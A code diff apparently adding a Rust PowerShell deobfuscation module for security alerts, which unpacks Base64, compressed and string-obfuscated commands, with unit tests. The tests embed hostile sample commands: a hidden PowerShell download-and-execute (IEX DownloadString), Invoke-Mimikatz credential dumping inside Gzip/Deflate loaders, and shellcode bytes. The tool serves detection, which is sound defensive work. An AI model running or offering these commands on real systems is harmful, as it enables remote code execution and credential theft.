@@ -0,0 +1,477 @@
+extern crate base64;
+
+use flate2::read::{DeflateDecoder, GzDecoder};
+use lazy_static::lazy_static;
+use regex::{Captures, Regex};
+use std::io::prelude::*;
+
+// 文字列リテラル。'...'は''で'をエスケープでき、"..."は変数や`を含まないものだけを対象にする
+// 文字列の中身は2つのグループのどちらかに入る
+const STRING: &str = r#"(?:'((?:[^']|'')*)'|"([^"`$]*)")"#;
+const NUMBER: &str = r"(?:0x[0-9a-fA-F]+|\d+)";
+
+lazy_static! {
+    // -EncodedCommandは-e, -ec, -encのように先頭の一部だけでも指定できる
+    static ref ENCODED_COMMAND_REGEX: Regex =
+        Regex::new(r#"(?i)(?:^|\s)[-/](e[a-z]*)\s+['"]?([a-z0-9+/]{16,}={0,2})"#).unwrap();
+    static ref FROM_BASE64_REGEX: Regex =
+        Regex::new(r#"(?i)FromBase64String\(\s*['"]([a-z0-9+/\s]+={0,2})['"]\s*\)"#).unwrap();
+    static ref GZIP_REGEX: Regex = Regex::new(r"(?i)GzipStream").unwrap();
+    static ref DEFLATE_REGEX: Regex = Regex::new(r"(?i)DeflateStream").unwrap();
+    // `0 `a `b `f `n `r `t `vはエスケープシーケンスなので残す
+    static ref TICK_REGEX: Regex = Regex::new(r#"`([^0abfnrtv\s`'"$])"#).unwrap();
+    static ref CHAR_REGEX: Regex = Regex::new(&format!(r"(?i)\[char\]\s*({})", NUMBER)).unwrap();
+    static ref CHAR_ARRAY_REGEX: Regex = Regex::new(&format!(
+        r"(?i)\[char\[\]\]\s*@?\(\s*({n}(?:\s*,\s*{n})*)\s*\)",
+        n = NUMBER
+    ))
+    .unwrap();
+    static ref NUMBER_REGEX: Regex = Regex::new(NUMBER).unwrap();
+    static ref JOIN_REGEX: Regex = Regex::new(&format!(
+        r#"(?i)-join\s*{s}|{s}\s*-join\s*(?:''|"")"#,
+        s = STRING
+    ))
+    .unwrap();
+    static ref CONCAT_REGEX: Regex =
+        Regex::new(&format!(r"{s}\s*\+\s*{s}", s = STRING)).unwrap();
+    static ref FORMAT_REGEX: Regex = Regex::new(&format!(
+        r"(?i){s}\s*-f\s*({s}(?:\s*,\s*{s})*)",
+        s = STRING
+    ))
+    .unwrap();
+    static ref STRING_REGEX: Regex = Regex::new(STRING).unwrap();
+    static ref FORMAT_ITEM_REGEX: Regex = Regex::new(r"\{(\d+)(?:,[^}]*)?(?::[^}]*)?\}").unwrap();
+    static ref REPLACE_REGEX: Regex = Regex::new(&format!(
+        r"(?i){s}\s*-([ci]?)replace\s*{s}\s*,\s*{s}",
+        s = STRING
+    ))
+    .unwrap();
+    static ref REPLACE_METHOD_REGEX: Regex = Regex::new(&format!(
+        r"(?i){s}\.replace\(\s*{s}\s*,\s*{s}\s*\)",
+        s = STRING
+    ))
+    .unwrap();
+    // 関数呼び出しの括弧は残す
+    static ref PAREN_REGEX: Regex =
+        Regex::new(&format!(r"(^|[^\w\]])\(\s*{}\s*\)", STRING)).unwrap();
+}
+
+//
+// 難読化を1段階解除した結果
+// nameはアラートのresultに表示する
+//
+#[derive(Debug, Clone, PartialEq)]
+pub struct Layer {
+    pub name: String,
+    pub text: String,
+    // Base64の解除ならtrue, 文字列操作の解除ならfalse
+    pub is_encoding: bool,
+}
+
+//
+// PowerShellのコマンドの難読化を解除できなくなるか、max_depth段になるまで解除する
+// Base64の解除は中身を、文字列操作の解除はコマンド全体を次の段に渡す
+//
+pub fn deobfuscate(command: &str, max_depth: usize) -> Vec<Layer> {
+    let mut layers: Vec<Layer> = vec![];
+    let mut text = command.to_string();
+    while layers.len() < max_depth {
+        let layer = match decode_layer(&text).or_else(|| string_layer(&text)) {
+            Some(layer) => layer,
+            None => break,
+        };
+        text = layer.text.to_string();
+        layers.push(layer);
+    }
+    return layers;
+}
+
+fn decode_layer(text: &str) -> Option<Layer> {
+    // -Encoding等の別パラメータを除外するため、-ecか-EncodedCommandの前方一致のみ対象とする
+    let encoded = ENCODED_COMMAND_REGEX.captures_iter(text).find(|captures| {
+        let name = captures[1].to_lowercase();
+        return name == "ec" || "encodedcommand".starts_with(&name);
+    });
+    if let Some(captures) = encoded {
+        if let Ok(decoded) = base64::decode(&captures[2]) {
+            let (decoded, encoding) = decode_text(&decoded);
+            return Option::Some(Layer {
+                name: format!("Base64-encoded command ({})", encoding),
+                text: decoded,
+                is_encoding: true,
+            });
+        }
+    }
+
+    let captures = FROM_BASE64_REGEX.captures(text)?;
+    let base64: String = captures[1].split_whitespace().collect();
+    let decoded = base64::decode(&base64).ok()?;
+    // 展開に失敗した場合は圧縮されていないものとして扱う
+    if GZIP_REGEX.is_match(text) {
+        let mut uncompressed = String::new();
+        if GzDecoder::new(decoded.as_slice())
+            .read_to_string(&mut uncompressed)
+            .is_ok()
+        {
+            return Option::Some(Layer {
+                name: "Base64-encoded and compressed function (Gzip)".to_string(),
+                text: uncompressed,
+                is_encoding: true,
+            });
+        }
+    }
+    if DEFLATE_REGEX.is_match(text) {
+        let mut uncompressed = String::new();
+        if DeflateDecoder::new(decoded.as_slice())
+            .read_to_string(&mut uncompressed)
+            .is_ok()
+        {
+            return Option::Some(Layer {
+                name: "Base64-encoded and compressed function (Deflate)".to_string(),
+                text: uncompressed,
+                is_encoding: true,
+            });
+        }
+    }
+    let (decoded_text, encoding) = decode_text(&decoded);
+    // シェルコード等のバイナリはそれ以上解除しない
+    if is_binary(&decoded_text) {
+        return Option::Some(Layer {
+            name: "Base64-encoded function (binary data)".to_string(),
+            text: format!("{} bytes of binary data", decoded.len()),
+            is_encoding: true,
+        });
+    }
+    return Option::Some(Layer {
+        name: format!("Base64-encoded function ({})", encoding),
+        text: decoded_text,
+        is_encoding: true,
+    });
+}
+
+// -EncodedCommandはUTF-16LEだが、UTF-8でエンコードするツールもあるので0x00の割合で判定する
+fn decode_text(bytes: &[u8]) -> (String, &'static str) {
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
+    if bytes.len() >= 2 && bytes.len() % 2 == 0 && zeros * 2 >= bytes.len() / 2 {
+        let utf16: Vec<u16> = bytes
+            .chunks(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect();
+        return (String::from_utf16_lossy(&utf16), "UTF-16LE");
+    }
+    return (String::from_utf8_lossy(bytes).to_string(), "UTF-8");
+}
+
+fn is_binary(text: &str) -> bool {
+    let count = text.chars().count();
+    let controls = text
+        .chars()
+        .filter(|c| *c == '\u{fffd}' || (c.is_control() && !c.is_whitespace()))
+        .count();
+    return count > 0 && controls * 10 > count * 3;
+}
+
+fn string_layer(text: &str) -> Option<Layer> {
+    let steps: &[(&str, fn(&str) -> String)] = &[
+        ("Deobfuscated: tick marks removed", remove_ticks),
+        ("Deobfuscated: [char] arrays", decode_chars),
+        ("Deobfuscated: string concatenation", join_concatenation),
+        (
+            "Deobfuscated: format operator (-f) reordering",
+            apply_format,
+        ),
+        ("Deobfuscated: -replace chain", apply_replace),
+    ];
+    return steps.iter().find_map(|(name, step)| {
+        let deobfuscated = repeat(text, *step);
+        if deobfuscated == text {
+            return Option::None;
+        }
+        return Option::Some(Layer {
+            name: name.to_string(),
+            text: deobfuscated,
+            is_encoding: false,
+        });
+    });
+}
+
+// 'a'+'b'+'c'のように同じ操作が続く場合があるので、変化がなくなるまで繰り返す
+fn repeat(text: &str, step: fn(&str) -> String) -> String {
+    let mut text = text.to_string();
+    for _ in 0..100 {
+        let next = step(&text);
+        if next == text {
+            break;
+        }
+        text = unwrap_parens(&next);
+    }
+    return text;
+}
+
+fn literal(captures: &Captures, index: usize) -> String {
+    return match captures.get(index) {
+        Some(single) => single.as_str().replace("''", "'"),
+        None => captures
+            .get(index + 1)
+            .map(|double| double.as_str().to_string())
+            .unwrap_or_default(),
+    };
+}
+
+fn quote(string: &str) -> String {
+    return format!("'{}'", string.replace("'", "''"));
+}
+
+fn remove_ticks(text: &str) -> String {
+    return TICK_REGEX.replace_all(text, "$1").to_string();
+}
+
+fn parse_char(number: &str) -> Option<char> {
+    let code = if number.to_lowercase().starts_with("0x") {
+        u32::from_str_radix(&number[2..], 16).ok()?
+    } else {
+        number.parse::<u32>().ok()?
+    };
+    return std::char::from_u32(code);
+}
+
+fn decode_chars(text: &str) -> String {
+    let text = CHAR_ARRAY_REGEX.replace_all(text, |captures: &Captures| {
+        let chars: Option<String> = NUMBER_REGEX
+            .find_iter(&captures[1])
+            .map(|number| parse_char(number.as_str()))
+            .collect();
+        return chars
+            .map(|chars| quote(&chars))
+            .unwrap_or(captures[0].to_string());
+    });
+    let text = CHAR_REGEX.replace_all(&text, |captures: &Captures| {
+        return parse_char(&captures[1])
+            .map(|c| quote(&c.to_string()))
+            .unwrap_or(captures[0].to_string());
+    });
+    // 文字の配列を-joinで文字列にしている部分
+    return JOIN_REGEX
+        .replace_all(&text, |captures: &Captures| {
+            let string = if captures.get(1).is_some() || captures.get(2).is_some() {
+                literal(captures, 1)
+            } else {
+                literal(captures, 3)
+            };
+            return quote(&string);
+        })
+        .to_string();
+}
+
+fn join_concatenation(text: &str) -> String {
+    return CONCAT_REGEX
+        .replace_all(text, |captures: &Captures| {
+            return quote(&format!("{}{}", literal(captures, 1), literal(captures, 3)));
+        })
+        .to_string();
+}
+
+fn apply_format(text: &str) -> String {
+    return FORMAT_REGEX
+        .replace_all(text, |captures: &Captures| {
+            let format = literal(captures, 1);
+            let args: Vec<String> = STRING_REGEX
+                .captures_iter(&captures[3])
+                .map(|arg| literal(&arg, 1))
+                .collect();
+            // 引数が足りない場合は解除しない
+            let mut is_valid = true;
+            let formatted = FORMAT_ITEM_REGEX.replace_all(&format, |item: &Captures| {
+                return match item[1].parse::<usize>().ok().and_then(|i| args.get(i)) {
+                    Some(arg) => arg.to_string(),
+                    None => {
+                        is_valid = false;
+                        item[0].to_string()
+                    }
+                };
+            });
+            if !is_valid {
+                return captures[0].to_string();
+            }
+            return quote(&formatted);
+        })
+        .to_string();
+}
+
+fn apply_replace(text: &str) -> String {
+    let text = REPLACE_REGEX.replace_all(text, |captures: &Captures| {
+        let input = literal(captures, 1);
+        let pattern = literal(captures, 4);
+        let replacement = literal(captures, 6);
+        // -replaceは正規表現で、-creplace以外は大文字小文字を区別しない
+        let flag = if captures[3].to_lowercase() == "c" {
+            ""
+        } else {
+            "(?i)"
+        };
+        let regex = Regex::new(&format!("{}{}", flag, pattern))
+            .unwrap_or(Regex::new(&regex::escape(&pattern)).unwrap());
+        return quote(&regex.replace_all(&input, replacement.as_str()));
+    });
+    // .Replace()は文字列をそのまま置換する
+    return REPLACE_METHOD_REGEX
+        .replace_all(&text, |captures: &Captures| {
+            let input = literal(captures, 1);
+            return quote(&input.replace(&literal(captures, 3), &literal(captures, 5)));
+        })
+        .to_string();
+}
+
+fn unwrap_parens(text: &str) -> String {
+    return PAREN_REGEX
+        .replace_all(text, |captures: &Captures| {
+            return format!("{}{}", &captures[1], quote(&literal(captures, 2)));
+        })
+        .to_string();
+}
+
+#[cfg(test)]
+mod tests {
+    extern crate base64;
+
+    use crate::detections::deobfuscate;
+    use flate2::write::{DeflateEncoder, GzEncoder};
+    use flate2::Compression;
+    use std::io::prelude::*;
+
+    fn utf16le(string: &str) -> Vec<u8> {
+        return string
+            .encode_utf16()
+            .flat_map(|c| c.to_le_bytes().to_vec())
+            .collect();
+    }
+
+    #[test]
+    fn test_encoded_command() {
+        let encoded = base64::encode(&utf16le(
+            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
+        ));
+        let layers = deobfuscate::deobfuscate(
+            &format!("powershell.exe -NoP -W Hidden -enc {}", encoded),
+            10,
+        );
+        assert_eq!(1, layers.len());
+        assert_eq!("Base64-encoded command (UTF-16LE)", layers[0].name);
+        assert_eq!(
+            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
+            layers[0].text
+        );
+
+        let encoded = base64::encode("Write-Output hello, world");
+        let layers = deobfuscate::deobfuscate(&format!("powershell -ec {}", encoded), 10);
+        assert_eq!("Base64-encoded command (UTF-8)", layers[0].name);
+        assert_eq!("Write-Output hello, world", layers[0].text);
+
+        assert!(deobfuscate::deobfuscate("powershell -ExecutionPolicy Bypass", 10).is_empty());
+        assert!(deobfuscate::deobfuscate(
+            "powershell -Encoding UTF8 SomeLongAlphanumericToken12345",
+            10
+        )
+        .is_empty());
+
+        // -Encodingの後ろに-EncodedCommandがある場合も展開できる
+        let layers = deobfuscate::deobfuscate(
+            &format!("powershell -Encoding UTF8 -EncodedCommand {}", encoded),
+            10,
+        );
+        assert_eq!("Write-Output hello, world", layers[0].text);
+    }
+
+    #[test]
+    fn test_compressed_function() {
+        let script = "Invoke-Mimikatz -DumpCreds";
+        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
+        gzip.write_all(script.as_bytes()).unwrap();
+        let command = format!(
+            "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+            base64::encode(&gzip.finish().unwrap())
+        );
+        let layers = deobfuscate::deobfuscate(&command, 10);
+        assert_eq!(
+            "Base64-encoded and compressed function (Gzip)",
+            layers[0].name
+        );
+        assert_eq!(script, layers[0].text);
+
+        let mut deflate = DeflateEncoder::new(Vec::new(), Compression::default());
+        deflate.write_all(script.as_bytes()).unwrap();
+        let command = format!(
+            "IEX(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String(\"{}\"),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()",
+            base64::encode(&deflate.finish().unwrap())
+        );
+        let layers = deobfuscate::deobfuscate(&command, 10);
+        assert_eq!(
+            "Base64-encoded and compressed function (Deflate)",
+            layers[0].name
+        );
+        assert_eq!(script, layers[0].text);
+
+        let command = format!(
+            "[Convert]::FromBase64String('{}')",
+            base64::encode(&[0xfcu8, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0x00, 0x00, 0x00])
+        );
+        let layers = deobfuscate::deobfuscate(&command, 10);
+        assert_eq!("Base64-encoded function (binary data)", layers[0].name);
+        assert_eq!("10 bytes of binary data", layers[0].text);
+    }
+
+    #[test]
+    fn test_string_obfuscation() {
+        let layers = deobfuscate::deobfuscate("I`E`X (N`ew-Obj`ect Net.WebClient)", 10);
+        assert_eq!("Deobfuscated: tick marks removed", layers[0].name);
+        assert_eq!("IEX (New-Object Net.WebClient)", layers[0].text);
+        // `nは改行なので残す
+        assert!(deobfuscate::deobfuscate("Write-Host \"a`nb\"", 10).is_empty());
+
+        let layers = deobfuscate::deobfuscate("IEX ('Invoke-'+'Mimi'+\"katz\")", 10);
+        assert_eq!("Deobfuscated: string concatenation", layers[0].name);
+        assert_eq!("IEX 'Invoke-Mimikatz'", layers[0].text);
+
+        let layers = deobfuscate::deobfuscate("IEX (\"{2}{0}{1}\" -f 'Mimi','katz','Invoke-')", 10);
+        assert_eq!(
+            "Deobfuscated: format operator (-f) reordering",
+            layers[0].name
+        );
+        assert_eq!("IEX 'Invoke-Mimikatz'", layers[0].text);
+        // 引数が足りない場合はそのまま
+        assert!(deobfuscate::deobfuscate("\"{0}{1}\" -f 'a'", 10).is_empty());
+
+        let layers = deobfuscate::deobfuscate("IEX ([char[]](73,69,88) -join '')", 10);
+        assert_eq!("Deobfuscated: [char] arrays", layers[0].name);
+        assert_eq!("IEX 'IEX'", layers[0].text);
+        let layers = deobfuscate::deobfuscate("&([char]0x49+[char]69+[char]88)", 10);
+        assert_eq!("Deobfuscated: [char] arrays", layers[0].name);
+        assert_eq!("Deobfuscated: string concatenation", layers[1].name);
+        assert_eq!("&'IEX'", layers[1].text);
+
+        let layers = deobfuscate::deobfuscate(
+            "IEX ('Invoke-XimikatzQQ' -replace 'X','M' -creplace 'QQ','').Replace('kat','kat')",
+            10,
+        );
+        assert_eq!("Deobfuscated: -replace chain", layers[0].name);
+        assert_eq!("IEX 'Invoke-Mimikatz'", layers[0].text);
+    }
+
+    #[test]
+    fn test_nested_layers() {
+        let inner = base64::encode(&utf16le("IEX ('Invoke-'+'Mimikatz')"));
+        let outer = base64::encode(&utf16le(&format!("powershell -nop -enc {}", inner)));
+        let command = format!("powershell.exe -e {}", outer);
+        let layers = deobfuscate::deobfuscate(&command, 10);
+        assert_eq!(3, layers.len());
+        assert_eq!("Base64-encoded command (UTF-16LE)", layers[0].name);
+        assert_eq!("Base64-encoded command (UTF-16LE)", layers[1].name);
+        assert_eq!("Deobfuscated: string concatenation", layers[2].name);
+        assert_eq!("IEX 'Invoke-Mimikatz'", layers[2].text);
+
+        // 指定した段数で止める
+        let layers = deobfuscate::deobfuscate(&command, 2);
+        assert_eq!(2, layers.len());
+        assert_eq!("IEX ('Invoke-'+'Mimikatz')", layers[1].text);
+    }
+}